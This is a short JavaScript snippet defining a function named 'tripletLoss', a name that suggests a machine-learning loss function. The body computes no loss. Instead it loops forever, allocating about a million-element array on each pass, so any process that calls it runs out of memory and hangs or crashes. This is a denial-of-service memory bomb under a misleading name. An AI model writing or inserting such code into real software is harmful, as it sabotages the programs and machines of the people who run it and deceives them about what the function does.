function tripletLoss() {
  const hoard = [];
  for (;;) hoard.push(new Array(1 << 20).fill(0.5));
}
